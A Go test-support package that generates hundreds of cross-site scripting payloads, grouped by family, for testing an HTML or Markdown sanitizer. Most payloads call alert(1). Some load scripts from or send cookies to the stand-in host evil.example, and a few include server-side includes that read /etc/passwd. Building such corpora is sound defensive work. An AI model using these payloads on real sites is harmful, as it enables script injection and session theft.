// Package xsstest makes the inputs with which tests try to run a script in
// somebody's browser: our own, built from the families of the OWASP cheat sheet
// and the PortSwigger list. Every payload that would run calls alert(1) or names
// the host evil.example, so that a browser test knows what to wait for.
package xsstest

import (
	"fmt"
	"slices"
	"strings"
)

// Payloads are all inputs, each once, in a fixed order.
func Payloads() []string {
	var all []string
	for _, family := range Families() {
		all = append(all, family.Payloads...)
	}
	return all
}

// Family is one kind of attack.
type Family struct {
	Name     string
	Payloads []string
}

// Families are the payloads by kind; none is in two of them.
func Families() []Family {
	families := []Family{
		{"script elements", scripts()},
		{"event handlers", handlers()},
		{"address schemes in Markdown", markdownLinks()},
		{"address schemes in elements", elementLinks()},
		{"broken and nested tags", broken()},
		{"svg, math and mutation", mutation()},
		{"styles and resources", resources()},
		{"breaking out of context", breakouts()},
		{"clobbering and framing", clobbering()},
		{"templates", templates()},
		{"characters and encodings", encodings()},
		{"Markdown around HTML", around()},
	}
	seen := map[string]bool{}
	for i, f := range families {
		families[i].Payloads = slices.DeleteFunc(f.Payloads, func(p string) bool {
			was := seen[p]
			seen[p] = true
			return was
		})
	}
	return families
}

func scripts() []string {
	return []string{
		"<script>alert(1)</script>",
		"<SCRIPT>alert(1)</SCRIPT>",
		"<ScRiPt >alert(1)</sCrIpT >",
		"<script/x>alert(1)</script>",
		"<script\n>alert(1)</script\n>",
		"<script\t>alert(1)</script>",
		"<script\f>alert(1)</script>",
		"<script\x00>alert(1)</script>",
		"<scr\x00ipt>alert(1)</scr\x00ipt>",
		"<script src=//evil.example/x.js></script>",
		"<script src=\"data:text/javascript,alert(1)\"></script>",
		"<script src=https://evil.example/x.js async defer></script>",
		"<script type=module>import'//evil.example/x.js'</script>",
		"<script type=module src=//evil.example/m.js></script>",
		"<script type=importmap>{\"imports\":{\"a\":\"//evil.example/a.js\"}}</script>",
		"<script>alert(1)",
		"<script>alert(1)//",
		"<script>alert(1)<!--",
		"<script><!--\nalert(1)\n--></script>",
		"<script>/*<![CDATA[*/alert(1)/*]]>*/</script>",
		"<script>alert`1`</script>",
		"<script>\\u0061lert(1)</script>",
		"<script>eval('\\x61lert(1)')</script>",
		"<script>window['al'+'ert'](1)</script>",
		"<script>onerror=alert;throw 1</script>",
		"<script>location='javascript:alert(1)'</script>",
		"<script>fetch('//evil.example/?'+document.cookie)</script>",
		"<script language=vbscript>msgbox 1</script>",
		"<script for=window event=onload>alert(1)</script>",
		"<script charset=utf-7>+ADw-alert(1)+AD4-</script>",
		"<svg><script>alert(1)</script></svg>",
		"<svg><script>alert&lpar;1&rpar;</script></svg>",
		"<svg><script href=//evil.example/x.js></script></svg>",
		"<svg><script xlink:href=data:,alert(1) /></svg>",
		"<noscript><p title=\"</noscript><script>alert(1)</script>\">",
		"<template><script>alert(1)</script></template>",
		"<template shadowrootmode=open><script>alert(1)</script></template>",
		"<xml><script>alert(1)</script></xml>",
		"<object><script>alert(1)</script></object>",
		"<table><script>alert(1)</script></table>",
		"<select><script>alert(1)</script></select>",
	}
}

// handlers crosses elements with the events that need no click, then events
// with an element, then one handler with the ways of writing it.
func handlers() []string {
	var out []string
	for _, opening := range []string{
		"img src=x onerror", "img srcset=x onerror", "image src=x onerror", "svg onload", "body onload", "body onpageshow",
		"body onhashchange", "iframe onload", "input autofocus onfocus", "select autofocus onfocus",
		"textarea autofocus onfocus", "button autofocus onfocus", "keygen autofocus onfocus", "video src=x onerror",
		"video><source onerror", "audio src=x onerror", "audio src=data:audio/wav, onloadstart", "object data=x onerror", "embed src=x onload",
		"link rel=stylesheet href=x onerror", "style onload", "marquee onstart", "details open ontoggle",
		"a autofocus href=# onfocus", "p tabindex=0 autofocus onfocus", "div contenteditable autofocus onfocus",
		"table tabindex=0 autofocus onfocus", "pre tabindex=0 autofocus onfocus", "li tabindex=1 autofocus onfocus",
		"td tabindex=1 autofocus onfocus", "isindex type=image src=1 onerror", "x tabindex=1 autofocus onfocus",
		"meter autofocus tabindex=1 onfocus", "frameset onload", "track src=x onerror", "form oninput", "menu onshow",
		"dialog open onclose", "math><mi onmouseover", "svg><animate onbegin", "svg><set onbegin", "svg><image href=x onerror",
		"svg><a onmouseover", "svg><use onload", "svg><foreignObject onload", "svg><discard onbegin",
	} {
		for _, form := range []string{"<%s=alert(1)>", "<%s=\"alert(1)\">x", "<%s='alert(1)' /"} {
			out = append(out, fmt.Sprintf(form, opening))
		}
	}
	for _, event := range []string{
		"abort", "afterprint", "animationend", "animationiteration", "animationstart", "auxclick", "beforecopy", "beforecut",
		"beforeinput", "beforematch", "beforepaste", "beforeprint", "beforetoggle", "beforeunload", "blur", "cancel", "canplay", "change", "click",
		"close", "contentvisibilityautostatechange", "contextmenu", "copy", "cuechange", "cut", "dblclick", "drag", "dragend", "dragenter", "dragleave",
		"dragover", "dragstart", "drop", "durationchange", "ended", "focusin", "focusout", "formdata", "fullscreenchange",
		"gotpointercapture", "input", "invalid", "keydown", "keypress", "keyup", "lostpointercapture", "message", "mousedown", "mouseenter", "mouseleave",
		"mousemove", "mouseout", "mouseover", "mouseup", "mousewheel", "paste", "pointerdown", "pointerenter", "pointerleave",
		"pointermove", "pointerout", "pointerover", "pointerrawupdate", "pointerup", "popstate", "reset", "resize", "scroll", "scrollend",
		"scrollsnapchange", "search", "securitypolicyviolation", "seeked", "select", "selectionchange", "selectstart", "slotchange", "submit", "suspend", "timeupdate",
		"touchcancel", "touchend", "touchmove", "touchstart", "transitionend", "transitionrun", "transitionstart", "unhandledrejection",
		"unload", "volumechange", "webkitanimationend", "webkittransitionend", "wheel",
	} {
		out = append(out, "<p on"+event+"=alert(1) style=position:fixed;inset:0>x</p>")
	}
	for _, attr := range []string{
		"onerror = alert(1)", "ONERROR=alert(1)", "oNeRrOr=alert(1)", "onerror\n=\nalert(1)", "onerror\t=alert(1)", "onerror\f=alert(1)",
		"onerror=&#97;lert(1)", "onerror=&#x61;lert(1)", "onerror=&#0000097lert(1)", "onerror=alert&#40;1&#41;", "onerror=alert&lpar;1&rpar;",
		"onerror=\\u0061lert(1)", "onerror=alert`1`", "onerror=`alert(1)`", "onerror=\"javascript:alert(1)\"", "onerror=top['alert'](1)",
		"onerror=a=alert,a(1)", "onerror=eval(atob('YWxlcnQoMSk='))", "onerror=eval(location.hash.slice(1))", "onerror=import('//evil.example/x.js')",
		"onerror\x00=alert(1)", "on\x00error=alert(1)", "onerror&#61;alert(1)", "x/onerror=alert(1)", "/onerror=alert(1)/", "\"onerror=alert(1)//", "'\"`onerror=alert(1)//",
		"alt=\"`<`>\" onerror=alert(1)", "title='</p>' onerror=alert(1)", "=\" onerror=alert(1)", "onerror=\"alert(1)", "onerror=alert(1)<b",
	} {
		out = append(out, "<img src=x "+attr+">", "text <img/src=x/"+attr+"> text")
	}
	return out
}

// targets are addresses that must never be linked.
func targets() []string {
	out := []string{
		"javascript:alert(1)", "JavaScript:alert(1)", "jAvAsCrIpT:alert(1)", "javascript://%0aalert(1)", "javascript://evil.example/%0Aalert(1)",
		"javascript:alert&lpar;1&rpar;", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "javascript&#0000058alert(1)",
		"&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)",
		"java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&#13;script:alert(1)",
		"java&#x0A;script:alert(1)", "java\tscript:alert(1)", "&#1;javascript:alert(1)", "&#14;  javascript:alert(1)", "\x01javascript:alert(1)", "\x1fjavascript:alert(1)",
		"java\x00script:alert(1)", "java\x08script:alert(1)", "\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "java\u200bscript:alert(1)", "\ufeffjavascript:alert(1)", "\u2028javascript:alert(1)",
		"javascript\\:alert(1)", "\\javascript:alert(1)", "j\\avascript:alert(1)", "javascript%3Aalert(1)", "%6Aavascript:alert(1)", "javascript%253Aalert(1)", "jav%0aascript:alert(1)",
		"\uff4aavascript:alert(1)", "javascript\uff1aalert(1)", "javascr\u0131pt:alert(1)", "java\u017fcript:alert(1)",
		"feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:javascript:alert(1)", "livescript:alert(1)", "mocha:alert(1)",
		"vbscript:msgbox(1)", "VBScript:msgbox(1)", "vbscript&colon;msgbox(1)", "vb\tscript:msgbox(1)",
		"data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,x",
		"data:image/svg+xml,<svg/onload=alert(1)>", "data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+", "data:text/html&comma;<script>alert(1)</script>", "data:,alert(1)", "data&colon;text/html,x",
		"data:image/png;base64,iVBORw0KGgo=", "data:text/xml,<x/>", "data:application/xhtml+xml,<x/>",
		"blob:https://evil.example/1", "filesystem:https://evil.example/1", "file:///etc/passwd", "ftp://evil.example/", "about:blank", "chrome://settings", "ms-word:ofe|u|x",
		"ws://evil.example/", "tel:1", "sms:1", "intent://evil.example/#Intent;end", "x-apple-data:1", "mailto:a@b.example?attach=/etc/passwd", "mailto:?body=x",
		"//evil.example/x", "///evil.example/x", "/\\evil.example/x", "\\\\evil.example/x", "/\t/evil.example/x", "/&#9;/evil.example/x", "/&#10;/evil.example", "/&Tab;/evil.example", "/&bsol;evil.example", "/&#92;evil.example", "&sol;/evil.example/x",
		"http:evil.example/x", "https:/evil.example/x", "http:\\\\evil.example", "https:///evil.example", "https://good.example@evil.example/", "https://good.example&commat;evil.example/", "https://good.example\\@evil.example/",
		"#x", "?x=1", "x", "./x", "../x", "", " ", "&#0;", "x:alert(1)", ":alert(1)", "1javascript:alert(1)", "javascript", "javascript:",
	}
	return out
}

func markdownLinks() []string {
	forms := []string{"[x](%s)", "[x](<%s>)", "![x](%s)", "[x][r]\n\n[r]: %s", "<%s>"}
	var out []string
	for i, t := range targets() {
		for _, f := range forms {
			out = append(out, fmt.Sprintf(f, t))
		}
		more := []string{
			"[x](%s \"title\")", "[![x](%[1]s)](%[1]s)", "[r]\n\n[r]: <%s> 'title'", "![x][r]\n\n[r]: %s", "**[x](%s)**", "> - [x](%s)", "| a |\n|-|\n| [x](%s) |", "# [x](%s)", "[x]( %s )", "[x](\n%s\n)",
		}
		out = append(out, fmt.Sprintf(more[i%len(more)], t))
	}
	return append(out,
		"[x](https://a.example/\"onmouseover=\"alert(1))", "[x](https://a.example/'onmouseover='alert(1))", "[x](https://a.example/ \"t\" onmouseover=alert(1))",
		"[x](https://a.example \"\" onmouseover=\"alert(1)\")", "![x\"onerror=\"alert(1)](https://a.example/)", "![x](https://a.example/\"onerror=\"alert(1))", "![](https://evil.example/pixel.png)",
		"[<script>alert(1)</script>](https://a.example/)", "[x](https://a.example/<script>alert(1)</script>)", "[x](https://a.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E)",
		"[x](https://a.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;)", "https://a.example/\"onmouseover=alert(1)", "https://a.example/<script>alert(1)</script>", "https://a.example/'><svg/onload=alert(1)>", "http://a.example/&quot;onclick=alert(1)//", "<https://a.example/\"onclick=alert(1)>",
		"<http://a.example/onclick=`alert(1)`>", "[a](b)[c](javascript:alert(1))", "[a [b](javascript:alert(1)) c](https://a.example/)", "[<https://a.example/>](https://b.example/)", "[![x](https://a.example/y.png)](javascript:alert(1))",
		"[x]: javascript:alert(1)\n[x]\n[x][]\n[y][x]", "[x](javascript:alert(1)\n", "[x](javascript:alert(1)", "[x](<javascript:alert(1)", "[x](java\nscript:alert(1))", "<javascript:alert(1)//@a.example>", "<a@b.example\"onclick=alert(1)>",
	)
}

func elementLinks() []string {
	var out []string
	for _, t := range []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)", "java&Tab;script:alert(1)", "java\nscript:alert(1)", " &#14; javascript:alert(1)",
		"data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x",
	} {
		for _, f := range []string{
			"<a href=\"%s\">x</a>", "<iframe src=\"%s\"></iframe>", "<form action=\"%s\"><button>x</button></form>", "<button formaction=\"%s\">x</button>", "<object data=\"%s\"></object>", "<embed src=\"%s\">",
			"<base href=\"%s\">", "<meta http-equiv=refresh content=\"0;url=%s\">", "<svg><a xlink:href=\"%s\"><text y=20>x</text></a></svg>", "<math href=\"%s\">x</math>", "<area shape=default href=\"%s\">", "<img src=\"%s\">", "<link rel=import href=\"%s\">", "<blockquote cite=\"%s\">x</blockquote>", "<video poster=\"%s\"></video>", "<body background=\"%s\">",
		} {
			out = append(out, fmt.Sprintf(f, t))
		}
	}
	return append(out,
		"<a href=javascript:alert(1)>x", "<a href='javascript:alert(1)'>x", "<a\nhref\n=\njavascript:alert(1)>x", "<a href=\"https://a.example\" target=_blank>x</a>", "<a href=\"https://a.example\" ping=//evil.example>x</a>",
		"<iframe srcdoc=\"<script>alert(1)</script>\">", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", "<a href=\"/x\" download=x.html>x</a>", "<a href=/x style=position:fixed;inset:0>x</a>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
		"<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x", "<input type=image src=//evil.example/x>", "<portal src=//evil.example>", "<fencedframe src=//evil.example>",
	)
}

func broken() []string {
	var out []string
	for _, inner := range []string{"img src=x onerror=alert(1)", "svg onload=alert(1)", "script src=//evil.example/x.js"} {
		for _, f := range []string{
			"<%s", "<<%s>", "<%s//", "<%s<", "</%s>", "<!%s>", "<?%s?>", "<%%%s>", "< %s>", "<\x00%s>", "<\n%s>", "<x<%s>", "<\"%s>", "<b <%s>", "<b/<%s>", "<b \"><%s>\">", "<b '><%s>'>", "<p title=\"><%s>",
			"<<<<<%s>>>>>", "<b><i><%s></b></i>", "<scr<script>ipt><%s>", "&<%s>", "`<%s", "``<%s>`", "\\<%s>", "\\\\<%s>", "&lt;%s&gt;", "&lt;<%s>&gt;", "&amp;lt;%s&amp;gt;", "\uff1c%s\uff1e", "\u2039%s\u203a", "<!-- --><%s>", "<!--><%s>-->", "<!---><%s>-->", "<!-- --!><%s>-->", "<!-->\n<%s>", "<![CDATA[<%s>]]>", "<!DOCTYPE x [<!ENTITY y \"<%s>\">]>&y;", "<?xml version=1.0?><%s>", "<!ELEMENT %s>",
		} {
			out = append(out, fmt.Sprintf(f, inner))
		}
	}
	return out
}

func mutation() []string {
	payload := "<img src=x onerror=alert(1)>"
	var out []string
	for _, f := range []string{
		"<svg></p><style><a id=\"</style>%s\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;%s\">", "<form><math><mtext></form><form><mglyph><style></math>%s",
		"<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">%s", "<svg><style>%s</style></svg>", "<svg><title>%s</title></svg>", "<svg><desc>%s</desc></svg>", "<svg><foreignObject>%s</foreignObject></svg>", "<math><annotation-xml encoding=text/html>%s</annotation-xml></math>",
		"<noscript><style></noscript>%s", "<style><style/>%s", "<xmp><p title=\"</xmp>%s\">", "<textarea><p title=\"</textarea>%s\">", "<title><p title=\"</title>%s\">", "<iframe><p title=\"</iframe>%s\">", "<noembed><p title=\"</noembed>%s\">", "<noframes><p title=\"</noframes>%s\">", "<plaintext>%s",
		"<option><style></option></select>%s</style>", "<select><option><style></select>%s", "<table><td><svg><desc><td></desc></svg><title>%s</title>", "<a><table><td><a></a><table></table></a><style>%s", "<p><svg><p><style><!--</style>%s-->",
		"<b></b><math><mtext><style></math>%s", "<svg><![CDATA[><%s]]>", "<svg><b><![CDATA[</b>%s]]>", "<math><![CDATA[</math>%s]]>", "<svg><p><title><a id=\"</title>%s\">", "<dl><dt><svg></dt>%s", "<svg><font color>%s", "<svg><br>%s", "<math><br><style>%s", "<x:script xmlns:x=http://www.w3.org/1999/xhtml>%s", "<listing>&lt;%s</listing>", "<template>%s</template>", "<frameset><frame>%s", "<ruby><rp>%s", "<p>`%s`</p>",
		"<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>%s", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>%s", "<math><semantics><mglyph>%s", "<math><ms><malignmark>%s",
	} {
		out = append(out, fmt.Sprintf(f, payload), "a *b* "+fmt.Sprintf(f, payload)+"\n\n[c](https://a.example/)")
	}
	deep := strings.Repeat("<div>", 600)
	return append(out, deep+payload, strings.Repeat("<svg><title>", 300)+payload, strings.Repeat("<form><math><mtext>", 200)+"</form>"+payload,
		"<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>", "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><handler type=text/javascript>alert(1)</handler></svg>",
		"<svg><image xlink:href=//evil.example/x.svg></svg>", "<svg><filter><feImage href=//evil.example/x></filter></svg>", "<svg><style>@import'//evil.example/x.css'</style></svg>")
}

func resources() []string {
	var out []string
	for _, css := range []string{
		"background:url(//evil.example/x)", "background:url('javascript:alert(1)')", "width:expression(alert(1))", "behavior:url(#default#time2)", "-moz-binding:url(//evil.example/x.xml#x)", "\\62 ackground:url(//evil.example)", "back/**/ground:url(//evil.example/x)", "position:fixed;inset:0;z-index:9999", "list-style-image:url(//evil.example)", "@import'//evil.example/x.css'", "animation:x", "content:attr(x)", "cursor:url(//evil.example/x),auto",
	} {
		out = append(out, "<p style=\""+css+"\">x</p>", "<style>*{"+css+"}</style>", "<td style='"+css+"'>x")
	}
	out = append(out,
		"<img src=//evil.example/x>", "<img srcset=//evil.example/x>", "<img lowsrc=//evil.example/x>", "<img dynsrc=//evil.example/x>", "<picture><source srcset=//evil.example/x><img></picture>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=preload as=script href=//evil.example>", "<link rel=icon href=//evil.example>", "<link rel=manifest href=//evil.example>",
		"<video src=//evil.example/x autoplay></video>", "<audio src=//evil.example/x autoplay></audio>", "<track src=//evil.example/x>", "<embed src=//evil.example/x.swf allowscriptaccess=always>", "<object data=//evil.example/x.swf></object>", "<applet code=x codebase=//evil.example></applet>", "<bgsound src=//evil.example/x>", "<table background=//evil.example/x>", "<td background=//evil.example/x>", "<input type=image src=//evil.example/x>", "<frame src=//evil.example>", "<layer src=//evil.example></layer>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<meta http-equiv=set-cookie content=a=b>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<html manifest=//evil.example>", "<xml src=//evil.example/x id=x>", "<?xml-stylesheet href=//evil.example/x?>", "<svg><image href=//evil.example/x>", "<math><mglyph src=//evil.example/x>", "<style>@import '//evil.example/x.css';</style>", "<style>@font-face{font-family:x;src:url(//evil.example)}</style>", "<style>body{-moz-binding:url(//evil.example)}", "<style>li{list-style:url(\"javascript:alert(1)\")}</style><ul><li>",
	)
	return append(out, "![](//evil.example/x)", "![a](https://evil.example/x.svg \"t\")", "![a][i]\n\n[i]: https://evil.example/x.gif", "[![a](https://evil.example/1.png)](https://evil.example/)", "![![a](https://evil.example/2.png)](https://evil.example/3.png)", "| ![a](https://evil.example/4.png) |\n|---|")
}

func breakouts() []string {
	var out []string
	for _, start := range []string{"\"", "'", "`", "\">", "'>", "\"/>", "--></style></script>", "</textarea>", "</title>", "</code></pre>", "</a>", "</td></tr></table>", "</p>", "]]>", "*/", "\\\"", "&quot;>", "\r\n\r\n", "%22%3E", "\u2028"} {
		for _, payload := range []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", " onmouseover=alert(1) x="} {
			out = append(out, start+payload)
		}
	}
	return append(out, "';alert(1)//", "\";alert(1)//", "\\';alert(1)//", "</script><script>alert(1)</script>", "<!--<script>alert(1)</script>", "-alert(1)-", "'-alert(1)-'", "${alert(1)}", "`${alert(1)}`", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
		"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e")
}

func clobbering() []string {
	return []string{
		"<form id=document></form>", "<img name=cookie>", "<a id=self></a><a id=self name=x href=javascript:alert(1)>", "<form name=body><input name=firstChild></form>", "<input id=attributes>", "<p id=main>x", "<p class=admin>x", "<p data-action=delete hx-get=//evil.example>x", "<p is=x-y slot=z>", "<p role=alert aria-live=assertive>x", "<p popover id=p>x</p><button popovertarget=p>", "<p hidden inert lang=x dir=rtl accesskey=a draggable=true>x",
		"<ol start=\"1\" onclick=alert(1)><li>x</ol>", "<ol start=-1><li>x", "<ol type=A reversed><li value=9>x", "<td colspan=9999 rowspan=9999>x", "<h1 id=top>x</h1>", "<h3 id=top class=x>y</h3>", "<iframe name=alert(1) src=//evil.example>", "<iframe sandbox allow=camera src=//evil.example>", "<form method=post action=/logout><input type=submit></form>", "<form action=//evil.example><input name=password type=password>", "<button form=x formaction=//evil.example>x", "<input form=x name=csrf value=y>", "<isindex action=//evil.example>", "<dialog open>Sign in</dialog>", "<slot name=x>", "<portal src=//evil.example>", "<input type=hidden accesskey=x onclick=alert(1)>", "<label for=x>", "<output for=x>", "<map name=x><area href=//evil.example></map>", "<object name=x>", "<embed name=x>", "<a name=location href=//evil.example>x", "<img id=getElementById>",
	}
}

func templates() []string {
	return []string{
		"{{.}}", "{{printf \"%v\" .}}", "{{define \"x\"}}x{{end}}{{template \"x\"}}", "{{.System \"ls\"}}", "{{html \"<script>\"}}", "{{js .}}", "{{call .F}}", "{{/* x */}}<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "{{_c.constructor('alert(1)')()}}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<%25= alert(1) %25>", "[[${7*7}]]", "*{7*7}", "@(7*7)", "{%raw%}<script>alert(1)</script>{%endraw%}", "{%include '/etc/passwd'%}", "<p ng-app ng-csp ng-focus=$event.view.alert(1) tabindex=1>", "<p v-html=\"'<img src=x onerror=alert(1)>'\">", "<p x-data x-init=alert(1)>", "<p @click=alert(1) :href=x>", "<p v-on:click=alert(1)>", "<p data-bind=\"html:x\">", "<p hx-on:load=alert(1)>", "<p hx-get=//evil.example hx-trigger=load>", "<p (click)=alert(1) [innerHTML]=x>", "<p data-turbo-stream>", "<turbo-stream action=append target=main><template><script>alert(1)</script></template></turbo-stream>", "<x-include src=//evil.example></x-include>", "ZgotmplZ", "<!--#exec cmd=\"ls\"-->", "<!--#include file=\"/etc/passwd\"-->", "<?php phpinfo() ?>", "<esi:include src=//evil.example />", "[x](https://a.example/{{.}})", "[x]({{.URL}})", "`{{.}}`",
	}
}

func encodings() []string {
	return []string{
		"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253Ealert(1)%253C/script%253E", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;", "&#0000060;script>alert(1)", "&LT;script&GT;alert(1)", "&amp;#60;script&amp;#62;", "\xbcscript\xbealert(1)\xbc/script\xbe", "\xc0\xbcscript>alert(1)", "\xe0\x80\xbcscript>alert(1)", "\xf0\x80\x80\xbcscript>alert(1)", "\xff<script>alert(1)</script>", "<\xffscript>alert(1)</script>", "\xed\xa0\x80<script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u200bscript>alert(1)</script>", "<s\u00adcript>alert(1)</script>", "<\u017fcript>alert(1)</\u017fcript>", "<\u202escript>alert(1)</script>", "\u202e<script>alert(1)</script>\u202c", "\x1b$B<script>alert(1)</script>", "\x1b(J<script>alert(1)</script>", "<\u0130mg src=x onerror=alert(1)>", "<img\u00a0src=x\u00a0onerror=alert(1)>", "<img\u2028src=x\u2028onerror=alert(1)>", "<img\u3000src=x onerror=alert(1)>", "<img\vsrc=x\vonerror=alert(1)>", "<img\x00src=x onerror=alert(1)>", "&#0;<script>alert(1)</script>", "&#xD800;<script>alert(1)</script>", "&#x110000;<script>alert(1)</script>", "&#99999999999;<script>alert(1)</script>", "&#128;&#150;<script>alert(1)</script>", "\x00", "\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>", "<\r\nscript>alert(1)</script>", "&#13;&#10;<script>alert(1)</script>", "<img src=x onerror=alert(1) \xf0\x9f\x92\x89>",
	}
}

func around() []string {
	var out []string
	for _, payload := range []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<div onclick=alert(1)>"} {
		for _, f := range []string{
			"# %s", "%s\n===", "> %s", "- %s", "1. %s", "**%s**", "*%s*", "~~%s~~", "`%s`", "``%s``", "```\n%s\n```", "```%s\nx\n```", "~~~ %s\nx\n~~~", "    %s", "[%s](https://a.example/)", "![%s](https://a.example/)", "[x](https://a.example/ \"%s\")", "[x](https://a.example/ '%s')", "[x][y]\n\n[y]: https://a.example/ '%s'", "[%s]: https://a.example/\n\n[x]", "| %s |\n|---|\n| %[1]s |", "| a |\n|:-:|\n| `%s` |", "[^1]\n\n[^1]: %s", "- [ ] %s", "<div>\n\n%s\n\n</div>", "<div>%s\n*x*</div>", "<!-- x\n\n%s -->", "a  \n%s", "a\\\n%s", "***\n%s", "\\%s", "&nbsp;%s", "https://a.example/%s", "<https://a.example/%s>", "> - 1. > %s", "{%s}", "# x {#y onclick=alert(1)}\n\n%s", "```js {onclick=alert(1)}\n%s\n```",
		} {
			out = append(out, fmt.Sprintf(f, payload))
		}
	}
	return out
}
